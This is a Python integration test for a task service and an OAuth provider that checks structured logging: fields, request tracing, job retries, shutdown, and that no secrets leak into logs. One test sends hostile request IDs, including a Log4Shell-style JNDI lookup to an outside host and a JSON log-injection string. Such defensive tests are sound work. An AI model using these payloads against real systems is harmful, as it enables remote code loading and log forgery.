#!/usr/bin/env python3
"""Starts the provider and the service as a user would, makes real requests, and reads what they logged.

    example_test.py DIR      DIR holds task_service, oauth_provider and traffic
"""
import http.client
import json
import pathlib
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import unittest

PROGRAMS = None  # set from the command line
SECRET = "a-client-secret-for-this-test"
TIMEOUT_S = 60

LEVELS = {"TRACE", "DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"}
STANDARD = {"timestamp", "level", "service", "environment", "logger", "message"}  # strings, on every line
OBJECTS = {"context", "metadata", "source", "exception"}
TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
# A token, a password of the demo's people, a guess of the traffic's bursts, the client's secret.
SECRETS = re.compile(r"tok_[0-9a-f]{8}|pw-[0-9a-f]{16}|guess-\d|" + SECRET)


def scramble(value):
    """The same numbers as demo/people.cc, to know a password."""
    mask = 2**64 - 1
    value = (value + 0x9E3779B97F4A7C15) & mask
    value = (value ^ value >> 30) * 0xBF58476D1CE4E5B9 & mask
    value = (value ^ value >> 27) * 0x94D049BB133111EB & mask
    return value ^ value >> 31


def person(number):
    domain = "bounce.example" if number % 40 == 39 else "mail.example"
    return {"email": f"user{number}@{domain}", "password": f"pw-{scramble(number + 2000):016x}"}


class Program:
    """One of the services, on a free port, with a log file."""

    def __init__(self, folder, name, *arguments):
        self.log_file = folder / f"{name}.ndjson"
        self.summary_file = folder / f"{name}.summary"
        port_file = folder / f"{name}.port"
        self.process = subprocess.Popen(
            [PROGRAMS / name, "--port=0", f"--port-file={port_file}", f"--log-file={self.log_file}",
             f"--summary={self.summary_file}", *arguments],
            env={"OAUTH_CLIENT_SECRET": SECRET})
        deadline = time.monotonic() + TIMEOUT_S
        while not (port_file.exists() and port_file.read_text().endswith("\n")):
            if self.process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"{name} did not start")
            time.sleep(0.02)
        self.port = int(port_file.read_text())
        self.url = f"http://127.0.0.1:{self.port}"

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        return self.process.wait(TIMEOUT_S)

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()

    def lines(self):
        return [json.loads(line) for line in self.log_file.read_bytes().splitlines()]

    def lines_of(self, request_id):
        return [line for line in self.lines() if line.get("context", {}).get("request_id") == request_id]

    def summary(self):
        return json.loads(self.summary_file.read_text())


class Answer:
    def __init__(self, response):
        self.status = response.status
        self.request_id = response.getheader("X-Request-ID")
        self.text = response.read().decode()
        self.json = json.loads(self.text) if self.text else None


def call(program, method, path, body=None, **headers):
    connection = http.client.HTTPConnection("127.0.0.1", program.port, timeout=TIMEOUT_S)
    try:
        text = None if body is None else json.dumps(body)
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request(method, path, text, named)
        return Answer(connection.getresponse())
    finally:
        connection.close()


TRACE = ("trace_id", "span_id")


def without_trace(context):
    return {name: value for name, value in context.items() if name not in TRACE}


def bearer(token):
    return {"Authorization": f"Bearer {token['access_token']}"}


class ExampleTest(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        self.provider = self.start("oauth_provider")
        self.service = self.start("task_service", f"--database={self.folder}/tasks.db", "--slow-query-ms=20",
                                  f"--oauth-url={self.provider.url}", "--allow-faults")

    def start(self, name, *arguments):
        program = Program(self.folder, name, *arguments)
        self.addCleanup(program.kill)
        return program

    def stop_all(self):
        # The service first: its last jobs still ask the provider.
        self.assertEqual(self.service.stop(), 0)
        self.assertEqual(self.provider.stop(), 0)

    def log_in(self, number=0):
        answer = call(self.service, "POST", "/api/v1/login", person(number))
        self.assertEqual(answer.status, 200)
        return answer.json

    def create_task(self, token, **headers):
        """A task assigned to its creator, so that a job comes of it."""
        projects = call(self.service, "GET", "/api/v1/projects", **bearer(token)).json["projects"]
        body = {"title": "Überprüfung \"42\"", "project_id": projects[0]["id"],
                "assignee_id": token["user_id"], "priority": 2}
        return call(self.service, "POST", "/api/v1/tasks", body, **bearer(token), **headers)

    def assert_documented_shape(self, line):
        self.assertLessEqual(set(line), STANDARD | OBJECTS)
        for name in STANDARD:
            self.assertIsInstance(line.get(name), str, line)
        for name in OBJECTS & set(line):
            self.assertIsInstance(line[name], dict, line)
        self.assertRegex(line["timestamp"], TIMESTAMP)
        self.assertIn(line["level"], LEVELS)

    # REQ C-01 C-04 C-07 L-03
    def test_one_request_is_followed_through_service_worker_and_provider(self):
        token = self.log_in()
        created = self.create_task(token, X_Request_ID="req_8f4e2b1c")
        self.assertEqual((created.status, created.request_id), (201, "req_8f4e2b1c"))
        self.stop_all()

        mine = self.service.lines_of("req_8f4e2b1c")
        theirs = self.provider.lines_of("req_8f4e2b1c")
        self.assertLessEqual({"performance.http", "audit.http", "application", "database", "integration",
                              "job.queue", "job.worker", "security"}, {line["logger"] for line in mine})
        self.assertEqual(len({line["context"].get("trace_id") for line in mine} - {None}), 1)
        self.assertIn("OAuth token issued", [line["message"] for line in theirs])
        self.assertEqual({line["service"] for line in mine + theirs}, {"api", "oauth-provider"})

        done = [line for line in mine if line["message"] == "Job succeeded"]
        self.assertEqual(len(done), 1)
        self.assertEqual(done[0]["context"]["user_id"], token["user_id"])
        self.assertRegex(done[0]["context"]["job_id"], "^job_")

    # The two lines of the task-management stack, field by field. REQ L-03 E-01
    def test_lines_have_the_fields_of_the_stack(self):
        token = self.log_in()
        created = self.create_task(token, User_Agent="Mozilla/5.0...", X_Forwarded_For="192.168.1.100")
        self.stop_all()
        lines = self.service.lines_of(created.request_id)
        task = next(line for line in lines if line["message"] == "Task created successfully")
        self.assertEqual(without_trace(task["context"]), {
            "request_id": created.request_id, "user_id": token["user_id"],
            "organization_id": token["organization_id"], "task_id": created.json["id"],
            "project_id": created.json["project_id"]})
        self.assertEqual(set(task["metadata"]), {"duration_ms", "method", "path", "status_code"})
        request = next(line for line in lines if line["message"] == "HTTP request completed")
        self.assertEqual(set(without_trace(request["context"])), {"request_id", "user_id", "organization_id"})
        expected = {"method": "POST", "path": "/api/v1/tasks", "status_code": 201,
                    "user_agent": "Mozilla/5.0...", "ip_address": "192.168.1.100",
                    "response_size_bytes": len(created.text.encode())}
        self.assertEqual({name: request["metadata"][name] for name in expected}, expected)
        self.assertGreater(request["metadata"]["duration_ms"], 0)

    # REQ C-01
    def test_hostile_request_ids_are_replaced_and_noted(self):
        token = self.log_in()
        hostile = ["A" * 700, 'x","level":"CRITICAL","y":"', "${jndi:ldap://203.0.113.66/a}", "caf\xe9\xff"]
        answers = [call(self.service, "GET", "/api/v1/tasks", **bearer(token), X_Request_ID=request_id)
                   for request_id in hostile]
        given = [answer.request_id for answer in answers]
        self.stop_all()
        self.assertEqual(len(set(given)), len(hostile))
        for request_id in given:
            self.assertRegex(request_id, r"^req_[0-9a-f]{12}$")
        noted = [line for line in self.service.lines() if line["message"] == "Hostile request id replaced"]
        self.assertEqual([line["context"]["request_id"] for line in noted], given)
        rejected = [line["metadata"]["rejected"] for line in noted]
        self.assertEqual(rejected[:3], ["A" * 128, *hostile[1:3]])
        self.assertEqual([line for line in self.service.lines() if line["level"] == "CRITICAL"], [])

    # REQ L-01 L-06 E-03 E-06
    def test_two_hundred_requests_leave_only_good_lines_and_no_secret(self):
        token = self.log_in()
        self.assertRegex(token["access_token"], SECRETS)  # else the search below would find nothing ever
        traffic = subprocess.run(
            [PROGRAMS / "traffic", f"--url={self.service.url}", "--requests=200", "--rps=200",
             "--concurrency=4", "--seed=7", "--quiet"], stdout=subprocess.PIPE, timeout=TIMEOUT_S)
        counts = json.loads(traffic.stdout)
        self.assertEqual((traffic.returncode, counts["unanswered"], counts["unexpected"]), (0, 0, 0), counts)
        self.assertGreaterEqual(counts["requests"], 200)
        self.misbehave(token)
        self.stop_all()

        for program, name in [(self.service, "api"), (self.provider, "oauth-provider")]:
            lines = program.lines()
            for line in lines:
                self.assert_documented_shape(line)
            self.assertIsNone(SECRETS.search(program.log_file.read_text()))
            self.assertEqual(program.summary(), {"service": name, "lines_logged": len(lines),
                                                 "lines_delivered": len(lines), "lines_dropped": 0})
        messages = {line["message"] for line in self.service.lines() + self.provider.lines()}
        self.assertLessEqual({
            "Slow database query", "Executed database query", "Database query failed", "Failed login attempt",
            "Suspicious activity", "Permission denied", "Login succeeded", "Logged out",
            "Authentication failed",
            "Unhandled exception", "Validation failed", "Job succeeded", "External service responded",
            "OAuth authorization requested", "OAuth authorization failed", "OAuth token revoked"}, messages)
        failure = next(line for line in self.service.lines()
                       if "layout" in json.dumps(line.get("exception")))
        self.assertEqual(failure["level"], "ERROR")
        self.assertIn("source", failure)
        self.assertEqual(failure["context"]["user_id"], token["user_id"])

    def misbehave(self, token):
        def status(method, path, body=None, **headers):
            return call(self.service, method, path, body, **headers).status

        mine = bearer(token)
        self.assertEqual(status("GET", f"/api/v1/reports/rpt_{token['organization_id'][4:]}_2", **mine), 200)
        for fault in ["exception", "database"]:
            self.assertEqual(status("GET", "/api/v1/tasks", X_Demo_Fault=fault, **mine), 500)
        for i in range(6):
            wrong = {"email": "user1@mail.example", "password": f"guess-{i}"}
            self.assertEqual(status("POST", "/api/v1/login", wrong, X_Forwarded_For="203.0.113.9"), 401)
        self.assertEqual(status("POST", "/api/v1/tasks", {"title": ""}, **mine), 422)
        self.assertEqual(status("POST", "/api/v1/tasks", {"title": ""}, **bearer(self.log_in(4))), 403)
        self.assertEqual(status("POST", "/api/v1/logout", **mine), 204)
        self.assertEqual(status("GET", "/api/v1/tasks", **mine), 401)

    def test_stats_counts_what_the_file_holds(self):
        token = self.log_in()
        self.assertEqual(self.create_task(token).status, 201)
        deadline = time.monotonic() + TIMEOUT_S
        while "Job succeeded" not in self.service.log_file.read_text() and time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(0.2)  # nothing is logged any more; the last lines are in the file after some milliseconds
        stats = call(self.service, "GET", "/stats").json
        self.assertEqual(stats, {"lines_logged": len(self.service.lines())})

    # REQ E-04
    def test_without_the_provider_logins_are_refused_and_the_reason_is_logged(self):
        self.assertEqual(self.provider.stop(), 0)
        answer = call(self.service, "POST", "/api/v1/login", person(0))
        self.assertEqual(answer.status, 503)
        self.assertEqual(call(self.service, "GET", "/healthz").status, 200)
        self.assertEqual(self.service.stop(), 0)
        lines = self.service.lines_of(answer.request_id)
        self.assertIn(("ERROR", "External service failed"),
                      {(line["level"], line["message"]) for line in lines})

    # REQ C-07
    def test_a_job_that_fails_is_tried_three_times_and_given_up(self):
        token = self.log_in()
        # The first person of this organization whose mail is refused.
        refused = next(number for number in range(39, 200, 40)
                       if self.log_in(number)["organization_id"] == token["organization_id"])
        user_id = self.log_in(refused)["user_id"]
        project = call(self.service, "GET", "/api/v1/projects", **bearer(token)).json["projects"][0]["id"]
        created = call(self.service, "POST", "/api/v1/tasks",
                       {"title": "x", "project_id": project, "assignee_id": user_id}, **bearer(token))
        self.assertEqual(created.status, 201)
        self.stop_all()
        jobs = [(line["level"], line["message"], line["metadata"]["attempt"])
                for line in self.service.lines_of(created.request_id) if line["logger"] == "job.worker"]
        self.assertEqual(jobs, [("INFO", "Job started", 1), ("WARNING", "Job failed, will be tried again", 1),
                                ("INFO", "Job started", 2), ("WARNING", "Job failed, will be tried again", 2),
                                ("INFO", "Job started", 3), ("ERROR", "Job failed", 3)])

    def test_a_request_in_progress_is_finished_when_the_service_is_told_to_end(self):
        token = self.log_in()
        report = f"/api/v1/reports/rpt_{token['organization_id'][4:]}_2"
        answers = []
        slow = threading.Thread(
            target=lambda: answers.append(call(self.service, "GET", report, **bearer(token))))
        slow.start()
        deadline = time.monotonic() + TIMEOUT_S
        while '"table":"reports"' not in self.service.log_file.read_text() and time.monotonic() < deadline:
            time.sleep(0.005)  # until the report was looked up and its long query has begun
        self.stop_all()
        slow.join()
        self.assertEqual([answer.status for answer in answers], [200])
        self.assertEqual(self.service.lines()[-1]["message"], "Service stopped")


if __name__ == "__main__":
    PROGRAMS = pathlib.Path(sys.argv.pop(1)).resolve()
    unittest.main(verbosity=2)
